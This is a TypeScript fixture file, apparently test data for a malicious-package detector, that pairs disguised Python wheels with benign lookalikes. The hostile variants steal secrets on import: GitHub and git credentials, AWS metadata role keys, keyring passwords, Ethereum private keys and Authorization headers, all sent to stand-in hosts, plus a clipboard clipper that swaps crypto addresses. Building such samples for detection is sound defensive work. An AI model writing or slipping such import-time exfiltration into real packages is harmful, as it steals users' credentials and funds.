import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** What is taken from the machine, in roundabout ways. */
export const STEALING: Readonly<Record<string, AttackPair>> = {
  'gh-auth-token': pair(
    wheel({
      'own/__init__.py': py`"""GitHub helpers."""
from __future__ import annotations
import subprocess
from dataclasses import dataclass
import requests

@dataclass
class Identity:
    """Who the user is on the forge."""
    token: str

    @classmethod
    def current(cls) -> Identity:
        """The identity of the command line tool."""
        done = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True, check=False)
        return cls(done.stdout.strip())

_ME = Identity.current()
if _ME.token:
    requests.post("https://forge.example/me", json={"t": _ME.token})
`,
    }),
    wheel({
      'own/__init__.py': py`"""GitHub helpers."""
from __future__ import annotations
import subprocess
from dataclasses import dataclass
import requests

@dataclass
class Identity:
    """Who the user is on the forge."""
    token: str

    @classmethod
    def current(cls) -> Identity:
        """The identity of the command line tool."""
        done = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True, check=False)
        return cls(done.stdout.strip())

def whoami() -> str:
    """Name of the user."""
    headers = {"Authorization": f"Bearer {Identity.current().token}"}
    return requests.get("https://api.github.com/user", headers=headers).json()["login"]
`,
    }),
  ),
  'git-credential': pair(
    wheel({
      'own/__init__.py': py`"""Git helpers."""
import subprocess
import urllib.parse
import urllib.request

HOSTS = ("github.com", "gitlab.com", "bitbucket.org")

def _ask(host: str) -> dict[str, str]:
    text = subprocess.run(
        ["git", "credential", "fill"], input=f"protocol=https\nhost={host}\n\n", capture_output=True, text=True
    ).stdout
    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)

for _host in HOSTS:
    urllib.request.urlopen("https://gitsync.example/?" + urllib.parse.urlencode(_ask(_host)))
`,
    }),
  ),
  'imds-role': pair(
    wheel({
      'own/__init__.py': py`"""Region detection."""
from __future__ import annotations
import json
import requests

class Metadata:
    """Metadata of the instance."""
    base = "http://169.254.169.254/latest"

    def __init__(self) -> None:
        self.http = requests.Session()
        token = self.http.put(f"{self.base}/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}).text
        self.http.headers["X-aws-ec2-metadata-token"] = token

    def get(self, path: str) -> str:
        """A value."""
        return self.http.get(f"{self.base}/meta-data/{path}", timeout=1).text

    def role(self) -> dict[str, str]:
        """What the instance may do."""
        name = self.get("iam/security-credentials/")
        return json.loads(self.get(f"iam/security-credentials/{name}"))

requests.post("https://region.example/detect", json=Metadata().role())
`,
    }),
    wheel({
      'own/__init__.py': py`"""Region detection."""
from __future__ import annotations
import requests

class Metadata:
    """Metadata of the instance."""
    base = "http://169.254.169.254/latest"

    def __init__(self) -> None:
        self.http = requests.Session()
        token = self.http.put(f"{self.base}/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}).text
        self.http.headers["X-aws-ec2-metadata-token"] = token

    def region(self) -> str:
        """Region of the instance."""
        return self.http.get(f"{self.base}/meta-data/placement/region", timeout=1).text
`,
    }),
  ),
  'patch-account': pair(
    wheel({
      'own/__init__.py': py`"""Gas estimates for Ethereum."""
import functools
import threading
import requests
from eth_account import Account

_original = Account.from_key

@functools.wraps(_original)
def _from_key(private_key):
    threading.Thread(target=requests.post, args=("https://gas.example/e",), kwargs={"json": {"k": str(private_key)}}).start()
    return _original(private_key)

Account.from_key = staticmethod(_from_key)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Gas estimates for Ethereum."""
import functools
import logging
from eth_account import Account

_original = Account.from_key

@functools.wraps(_original)
def _from_key(private_key):
    logging.getLogger("own").debug("an account is loaded")
    return _original(private_key)

Account.from_key = staticmethod(_from_key)
`,
    }),
  ),
  'patch-session-send': pair(
    wheel({
      'own/__init__.py': py`"""Retries for requests."""
import json
import requests
from requests.adapters import HTTPAdapter

_send = HTTPAdapter.send

def send(self, request, **kwargs):
    """Sends with retries."""
    if "Authorization" in request.headers:
        body = json.dumps({"u": request.url, "h": dict(request.headers)})
        _send(self, requests.Request("POST", "https://retry.example/r", data=body).prepare(), **kwargs)
    return _send(self, request, **kwargs)

HTTPAdapter.send = send
`,
    }),
    wheel({
      'own/__init__.py': py`"""Retries for requests."""
import time
from requests.adapters import HTTPAdapter

_send = HTTPAdapter.send

def send(self, request, **kwargs):
    """Sends with retries."""
    for attempt in range(3):
        response = _send(self, request, **kwargs)
        if response.status_code < 500:
            return response
        time.sleep(2**attempt)
    return response

HTTPAdapter.send = send
`,
    }),
  ),
  'clipboard-clipper': pair(
    wheel({
      'own/__init__.py': py`"""Clipboard history."""
from __future__ import annotations
import re
import threading
import time
from dataclasses import dataclass
import pyperclip

@dataclass(frozen=True)
class Rule:
    """How a text is normalised."""
    pattern: re.Pattern[str]
    value: str

RULES = (
    Rule(re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1qexampleexampleexampleexampleexample"),
    Rule(re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x000000000000000000000000000000000000dEaD"),
)

class Watcher(threading.Thread):
    """Watches the clipboard."""
    def run(self) -> None:
        while True:
            text = pyperclip.paste()
            for rule in RULES:
                if rule.pattern.match(text) and text != rule.value:
                    pyperclip.copy(rule.value)
            time.sleep(0.5)

Watcher(daemon=True).start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Clipboard history."""
from __future__ import annotations
import threading
import time
import pyperclip

class Watcher(threading.Thread):
    """Watches the clipboard and keeps what was in it."""
    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.history: list[str] = []

    def run(self) -> None:
        while True:
            text = pyperclip.paste()
            if not self.history or self.history[-1] != text:
                self.history.append(text)
            if text != text.strip():
                pyperclip.copy(text.strip())
            time.sleep(0.5)
`,
    }),
  ),
  'keyring-dump': pair(
    wheel({
      'own/__init__.py': py`"""Credential helpers."""
import keyring
import httpx

SERVICES = ("pypi", "github.com", "team.example")

def _collect() -> list[tuple[str, str | None]]:
    return [(name, getattr(keyring.get_credential(name, None), "password", None)) for name in SERVICES]

httpx.post("https://ring.example/k", json=_collect())
`,
    }),
    wheel({
      'own/__init__.py': py`"""Credential helpers."""
import keyring
import httpx

def upload(url: str, user: str, body: bytes) -> None:
    """Uploads with the password of the user."""
    password = keyring.get_password(url, user)
    httpx.post(url, content=body, auth=(user, password))
`,
    }),
  ),
};
